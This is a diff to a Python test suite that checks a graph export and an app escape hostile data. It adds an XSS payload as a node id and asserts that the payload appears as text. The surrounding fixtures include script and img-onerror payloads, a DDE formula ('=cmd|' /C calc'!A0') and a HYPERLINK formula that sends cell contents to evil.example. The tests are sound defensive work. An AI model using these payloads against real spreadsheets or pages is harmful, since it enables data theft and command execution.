@@ -11,6 +11,8 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
 from pathlib import Path
 
 import openpyxl
@@ -26,6 +28,7 @@ TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 IMAGE = "![t](http://host/x.png)"
 SCRIPT = "<script>alert(1)</script>"
 IMG = "<img src=x onerror=alert(1)>"
+ALLIANCE = "al<img src=x onerror=alert(2)>"      # an id: pyvis shows it in the node's title (HTML)
 HOSTILE = {
     "o1": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
     "o2": "=cmd|' /C calc'!A0",
@@ -47,8 +50,8 @@ TABLES = {
     "IN_SEGMENT.csv": [["from", "to"], ["e1", "s1"], ["e2", "s1"], *[[i, "s2"] for i in HOSTILE]],
     "SUPPLIES.csv": [["from", "to", "weight"], *[[i, "e1" if n % 2 else "e2", f"0.{n}"]
                                                  for n, i in enumerate(HOSTILE, start=1)]],
-    "Alliance.csv": [["id", "name"], ["al1", "<b>联合体</b>"]],
-    "MEMBER_OF.csv": [["from", "to"], ["e1", "al1"]],
+    "Alliance.csv": [["id", "name"], [ALLIANCE, "<b>联合体</b>"]],
+    "MEMBER_OF.csv": [["from", "to"], ["e1", ALLIANCE]],
 }
 
 
@@ -128,6 +131,9 @@ def test_pyvis_export_carries_no_markup_from_the_data(zone):
     page = drawing.pyvis_html(result.graph, drawing.spring_positions(result.graph))
     assert SCRIPT not in page and "<script>alert" not in page and "<img src=x" not in page
     assert "\\u003cscript\\u003ealert(1)" in page                   # the name is there, as JSON text
+    nodes = json.loads(re.search(r"nodes = new vis\.DataSet\((\[.*?\])\);", page).group(1))
+    titles = {n["id"]: n["title"] for n in nodes}
+    assert titles[ALLIANCE] == "Alliance al&lt;img src=x onerror=alert(2)&gt;"   # shown as text, not HTML
 
 
 def test_app_pages_show_names_escaped(zone, monkeypatch):
